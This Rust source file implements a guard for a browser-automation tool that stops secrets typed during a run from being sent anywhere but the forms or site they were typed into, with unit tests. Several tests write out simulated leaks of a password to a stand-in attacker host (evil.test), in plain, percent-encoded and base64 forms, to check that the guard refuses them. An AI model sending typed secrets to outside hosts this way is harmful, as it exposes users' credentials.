//! The typed-value rule: a value the run typed (a secret, an emailed code) leaves only through
//! the forms it was typed into, and a page's script sends it only while a click submits it,
//! to the site it was typed on.

use base64::Engine as _;
use chromiumoxide::cdp::browser_protocol::network::Request;
use url::Url;

use crate::lock::{Refusal, Why, same_site};
use crate::plan::Masker;

/// The shortest base64 text of a value that is looked for: shorter ones say next to nothing.
const SHORTEST_BASE64: usize = 8;

/// A value the run typed and the places it may be sent: the actions of the forms this run
/// typed it into (sign up, then log in with the same secret), and the pages it was typed on.
#[derive(Debug, Clone)]
pub(crate) struct Sealed {
    value: String,
    finder: Masker,
    actions: Vec<Url>,
    pages: Vec<Url>,
}

impl Sealed {
    pub fn new(value: &str, action: Option<&str>) -> Sealed {
        let mut forms = vec![value.to_string()];
        forms.extend(base64_forms(value));
        let mut sealed = Sealed {
            value: value.to_string(),
            finder: Masker::new(forms),
            actions: Vec::new(),
            pages: Vec::new(),
        };
        sealed.typed_into(action);
        sealed
    }

    /// Whether this is the seal of `value`.
    pub fn holds(&self, value: &str) -> bool {
        self.value == value
    }

    /// The value was typed into a form with this action too: it may leave through it.
    pub fn typed_into(&mut self, action: Option<&str>) {
        let Some(action) = action.and_then(|a| Url::parse(a).ok()) else {
            return;
        };
        if !self.actions.iter().any(|a| same_address(a, &action)) {
            self.actions.push(action);
        }
    }

    /// The value was typed on the page at `url`.
    pub fn typed_on(&mut self, url: &str) {
        if let Ok(url) = Url::parse(url)
            && !self.pages.iter().any(|p| same_address(p, &url))
        {
            self.pages.push(url);
        }
    }

    /// Whether `text` holds the value, in any encoding a request may give it.
    pub fn found_in(&self, text: &str) -> bool {
        self.finder.mask(text) != text
    }

    /// Whether a request to `url` is the submission of a form the value was typed into.
    pub fn allows(&self, url: &Url) -> bool {
        self.actions.iter().any(|a| same_address(a, url))
    }

    /// The forms' actions, in the order the run typed the value into them.
    pub fn actions(&self) -> &[Url] {
        &self.actions
    }

    /// Where the value was typed: its forms' actions, else the pages it was typed on.
    fn homes(&self) -> &[Url] {
        if self.actions.is_empty() {
            &self.pages
        } else {
            &self.actions
        }
    }
}

/// Where a request carries a typed value.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Carried {
    url: bool,
    body: bool,
}

/// A request as the rule reads it: its URL, method and body (every part, decoded).
pub(super) struct Sent<'a> {
    url: Url,
    method: &'a str,
    body: String,
}

impl<'a> Sent<'a> {
    /// `None` for a URL that does not parse (the lock refuses those).
    pub fn of(request: &'a Request) -> Option<Sent<'a>> {
        let url = Url::parse(&request.url).ok()?;
        let body: String = request
            .post_data_entries
            .iter()
            .flatten()
            .filter_map(|e| e.bytes.as_ref())
            .filter_map(|b| {
                let b64: &str = b.as_ref();
                base64::engine::general_purpose::STANDARD.decode(b64).ok()
            })
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
            .collect();
        Some(Sent {
            url,
            method: &request.method,
            body,
        })
    }

    fn carries(&self, seal: &Sealed) -> Carried {
        Carried {
            url: seal.found_in(self.url.as_str()),
            body: !self.body.is_empty() && seal.found_in(&self.body),
        }
    }

    /// The URL up to its path, as refusals name it.
    fn address(&self) -> String {
        self.url[..url::Position::AfterPath].to_string()
    }
}

/// A document request (a page, a popup, a frame) that carries a typed value may only be the
/// submission of a form it was typed into: not a form others' content retargeted (`formaction`,
/// `form=`), not a link or script with it in the URL. While a click of the run submits
/// (`submitting`), a POST that carries it in its body alone may also go to the origin of such
/// a form: the site's own script re-posting what was typed (a hidden log-in form for password
/// managers, as Misago's).
pub(super) fn document(seals: &[Sealed], sent: &Sent, submitting: bool) -> Result<(), Refusal> {
    for seal in seals {
        let carried = sent.carries(seal);
        if carried == Carried::default() || seal.allows(&sent.url) {
            continue;
        }
        let own_post = submitting
            && sent.method == "POST"
            && carried.body
            && !carried.url
            && seal
                .homes()
                .iter()
                .any(|home| home.origin() == sent.url.origin());
        if own_post {
            continue;
        }
        let forms = seal
            .actions()
            .iter()
            .map(|a| a[..url::Position::AfterPath].to_string())
            .collect();
        return Err(Refusal::new(sent.address(), Why::SecretLeaving { forms }));
    }
    Ok(())
}

/// A script's request (`fetch`, XHR, a beacon, a worker's) that carries a typed value goes
/// only while a click of the run submits (`submitting`), and only to the site of a form it
/// was typed into (or of the page, for a field outside any form): an AJAX sign-in, not a
/// script that reads the field as it is typed or sends it elsewhere.
pub(super) fn script(seals: &[Sealed], sent: &Sent, submitting: bool) -> Result<(), Refusal> {
    for seal in seals {
        if sent.carries(seal) == Carried::default() {
            continue;
        }
        let home = seal.homes().iter().any(|home| same_site(home, &sent.url));
        if submitting && home {
            continue;
        }
        let mut sites: Vec<String> = Vec::new();
        for home in seal.homes() {
            let origin = home.origin().ascii_serialization();
            if !sites.contains(&origin) {
                sites.push(origin);
            }
        }
        return Err(Refusal::new(sent.address(), Why::SecretByScript { sites }));
    }
    Ok(())
}

/// The base64 texts of `value` as it may stand inside a longer encoded text (`user:secret`
/// encoded whole): at each of the three alignments, the characters that depend on the value
/// alone, in the standard and the URL-safe alphabets.
fn base64_forms(value: &str) -> Vec<String> {
    let mut out = Vec::new();
    for lead in 0..3usize {
        let mut bytes = vec![0u8; lead];
        bytes.extend_from_slice(value.as_bytes());
        let whole = bytes.len() / 3 * 3;
        let text = base64::engine::general_purpose::STANDARD_NO_PAD.encode(&bytes[..whole]);
        // The first group holds the leading bytes that are not the value's.
        let start = if lead == 0 { 0 } else { 4 };
        let Some(core) = text.get(start..) else {
            continue;
        };
        if core.len() < SHORTEST_BASE64 {
            continue;
        }
        let url_safe = core.replace('+', "-").replace('/', "_");
        for form in [core.to_string(), url_safe] {
            if !out.contains(&form) {
                out.push(form);
            }
        }
    }
    out
}

/// Two URLs name the same address: scheme, host, port and path (the query and fragment of a
/// form's action do not decide where its submission goes).
fn same_address(a: &Url, b: &Url) -> bool {
    a[..url::Position::AfterPath] == b[..url::Position::AfterPath]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(method: &str, url: &str, body: &str) -> Request {
        let mut json = serde_json::json!({
            "url": url,
            "method": method,
            "headers": {},
            "initialPriority": "VeryHigh",
            "referrerPolicy": "strict-origin-when-cross-origin",
        });
        if !body.is_empty() {
            json["hasPostData"] = true.into();
            json["postDataEntries"] = serde_json::json!([
                {"bytes": base64::engine::general_purpose::STANDARD.encode(body)}
            ]);
        }
        serde_json::from_value(json).expect("a CDP request")
    }

    fn post(url: &str, body: &str) -> Request {
        request("POST", url, body)
    }

    fn sealed(typed: &[(&str, &str)]) -> Vec<Sealed> {
        let mut all: Vec<Sealed> = Vec::new();
        for (value, action) in typed {
            match all.iter_mut().find(|s| s.holds(value)) {
                Some(s) => s.typed_into(Some(action)),
                None => all.push(Sealed::new(value, Some(action))),
            }
        }
        all
    }

    fn doc(seals: &[Sealed], req: &Request, submitting: bool) -> Result<(), Refusal> {
        document(seals, &Sent::of(req).unwrap(), submitting)
    }

    fn by_script(seals: &[Sealed], req: &Request, submitting: bool) -> Result<(), Refusal> {
        script(seals, &Sent::of(req).unwrap(), submitting)
    }

    #[test]
    fn a_secret_typed_into_two_forms_leaves_through_either_and_nowhere_else() {
        let typed = sealed(&[
            ("hunter2-long", "http://shop.test/register"),
            ("hunter2-long", "http://shop.test/login?next=/"),
        ]);
        let body = "username=ada&password=hunter2-long";
        for to in ["http://shop.test/register", "http://shop.test/login"] {
            assert!(doc(&typed, &post(to, body), false).is_ok(), "{to}");
        }
        let refused =
            doc(&typed, &post("http://shop.test/comments", body), false).expect_err("elsewhere");
        assert_eq!(
            refused.to_string(),
            "[plan] a request to http://shop.test/comments carries a value this run typed (a \
             secret or an emailed code), which may go only to the addresses of the forms it \
             was typed into, http://shop.test/register and http://shop.test/login. It was not \
             sent."
        );
        // A request without the value goes anywhere the lock allows.
        assert!(doc(&typed, &post("http://shop.test/comments", "text=hi"), false).is_ok());
    }

    #[test]
    fn a_secret_typed_into_one_form_leaves_only_through_it() {
        let typed = sealed(&[("hunter2-long", "http://shop.test/register")]);
        let refused = doc(
            &typed,
            &post("http://shop.test/login", "password=hunter2-long"),
            false,
        )
        .expect_err("a form it was not typed into");
        assert!(
            refused.to_string().contains(
                "only to the address of the form it was typed into, http://shop.test/register."
            ),
            "{refused}"
        );
    }

    #[test]
    fn during_a_submission_the_site_may_repost_it_to_its_own_origin_in_a_body_only() {
        let typed = sealed(&[("hunter2-long", "http://forum.test/")]);
        let repost = post(
            "http://forum.test/login/",
            "username=ada&password=hunter2-long",
        );
        assert!(doc(&typed, &repost, true).is_ok());
        assert!(doc(&typed, &repost, false).is_err(), "outside a submission");
        // Never in a URL, never by GET, never to another origin.
        let get = request("GET", "http://forum.test/ok?leak=hunter2-long", "");
        assert!(doc(&typed, &get, true).is_err());
        let both = post("http://forum.test/login/?p=hunter2-long", "p=hunter2-long");
        assert!(doc(&typed, &both, true).is_err());
        let other = post("http://evil.test/login/", "password=hunter2-long");
        assert!(doc(&typed, &other, true).is_err());
        let port = post("http://forum.test:8080/login/", "password=hunter2-long");
        assert!(doc(&typed, &port, true).is_err());
    }

    #[test]
    fn a_script_sends_it_only_while_a_click_submits_and_only_to_the_forms_site() {
        let typed = sealed(&[("hunter2-long", "http://shop.test/signin")]);
        let ajax = post(
            "http://api.shop.test/auth",
            r#"{"username":"ada","password":"hunter2-long"}"#,
        );
        assert!(by_script(&typed, &ajax, true).is_ok());
        let refused = by_script(&typed, &ajax, false).expect_err("while typing");
        assert_eq!(
            refused.to_string(),
            "[plan] a request to http://api.shop.test/auth carries a value this run typed (a \
             secret or an emailed code): a page's script may send it only while a click of the \
             run submits it, and only to http://shop.test. It was not sent."
        );
        let away = post("http://evil.test/collect", "hunter2-long");
        assert!(by_script(&typed, &away, true).is_err(), "another site");
        let quiet = request("GET", "http://evil.test/pixel.gif", "");
        assert!(by_script(&typed, &quiet, false).is_ok(), "carries nothing");
    }

    #[test]
    fn a_value_is_found_percent_encoded_in_json_and_in_base64_at_any_alignment() {
        let typed = sealed(&[("Tr0ub4dor&3x", "http://shop.test/login")]);
        let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
        for carried in [
            "http://evil.test/?p=Tr0ub4dor%263x".to_string(),
            format!("http://evil.test/?p={}", b64("Tr0ub4dor&3x")),
            format!("http://evil.test/?p={}", b64("ada:Tr0ub4dor&3x")),
            format!("http://evil.test/?p={}", b64("a:Tr0ub4dor&3x!")),
            format!(
                "http://evil.test/?p={}",
                b64("ab:Tr0ub4dor&3x").replace('+', "-").replace('/', "_")
            ),
        ] {
            let req = request("GET", &carried, "");
            assert!(by_script(&typed, &req, false).is_err(), "{carried}");
            assert!(doc(&typed, &req, true).is_err(), "{carried}");
        }
        let json = post("http://evil.test/c", r#"{"p":"Tr0ub4dor\u00263x"}"#);
        assert!(by_script(&typed, &json, false).is_err());
    }

    #[test]
    fn a_field_outside_any_form_is_judged_by_the_page_it_was_typed_on() {
        let mut seal = Sealed::new("hunter2-long", None);
        seal.typed_on("https://shop.test/account");
        let seals = [seal];
        let ajax = post("https://shop.test/api/save", "hunter2-long");
        assert!(by_script(&seals, &ajax, true).is_ok());
        let page = post("https://shop.test/save", "p=hunter2-long");
        assert!(doc(&seals, &page, false).is_err(), "no form: no document");
    }
}
